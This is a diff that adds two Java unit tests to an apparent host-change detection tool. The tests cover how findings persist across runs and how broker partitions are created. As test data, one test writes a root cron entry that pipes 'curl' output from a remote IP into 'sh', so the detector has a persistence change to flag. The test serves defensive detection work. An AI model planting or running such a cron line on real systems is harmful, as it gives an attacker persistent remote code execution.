@@ -141,6 +141,47 @@ final class OnDemandTest {
   }
 
   @Test
+  void betweenTwoCallsTheFolderKeepsWhatWasFound() throws Exception {
+    assertEquals(ExitCode.NOTHING_FOUND, onRoot("baseline").exitCode());
+    write("etc/cron.d/sync", "* * * * * root curl -s http://203.0.113.7/x | sh\n");
+    Cli visited = onRoot("analysis", "--format", "ndjson");
+    assertEquals(ExitCode.FINDINGS, visited.exitCode(), visited::err);
+    Finding first = deviations(visited).get(0);
+
+    // The broker that was begun meanwhile is stopped with the command, and the folder is free.
+    Cli nowhere = Cli.diffy("new", "analysis", "local", "--data", data(), "--root", data() + "-no");
+    assertEquals(ExitCode.FAILURE, nowhere.exitCode(), nowhere::out);
+    assertTrue(nowhere.err().contains("there is no folder"), nowhere::err);
+
+    write("etc/cron.d/sync", "* * * * * root curl -s http://203.0.113.7/y | sh\n");
+    Cli again = onRoot("analysis", "--format", "ndjson");
+    assertEquals(ExitCode.FINDINGS, again.exitCode(), again::err);
+    Cli shown = Cli.diffy("findings", "--data", data(), "--format", "ndjson");
+    assertEquals(deviations(again), deviations(shown));
+    Finding later = deviations(again).get(0);
+    assertEquals(1, deviations(again).size(), again::out);
+    assertEquals(Finding.Activity.CREATE, later.activity());
+    assertTrue(!later.uid().equals(first.uid()), again::out);
+
+    write("etc/cron.d/sync", "* * * * * root curl -s http://203.0.113.7/x | sh\n");
+    Finding back = deviations(onRoot("analysis", "--format", "ndjson")).get(0);
+    assertEquals(first.uid(), back.uid());
+    assertTrue(back.sequence() > first.sequence(), () -> "sequence " + back.sequence());
+  }
+
+  @Test
+  void aFolderThatAShortCommandMadeHasOnePartitionOfEachTopicUnlessTold() {
+    assertEquals(ExitCode.NOTHING_FOUND, onRoot("baseline").exitCode());
+    assertTrue(Files.isDirectory(folder.resolve("data/broker/diffy.observations-0")));
+    assertTrue(Files.notExists(folder.resolve("data/broker/diffy.observations-1")));
+
+    String told = folder.resolve("told").toString();
+    Cli findings = Cli.diffy("findings", "--data", told, "--partitions", "3");
+    assertEquals(ExitCode.NOTHING_FOUND, findings.exitCode(), findings::err);
+    assertTrue(Files.isDirectory(folder.resolve("told/broker/diffy.observations-2")));
+  }
+
+  @Test
   void asksOsqueryiWhereThereIsOneAndSaysSo() throws Exception {
     Path osqueryi = folder.resolve("osqueryi");
     Path answer = folder.resolve("crontab.json");
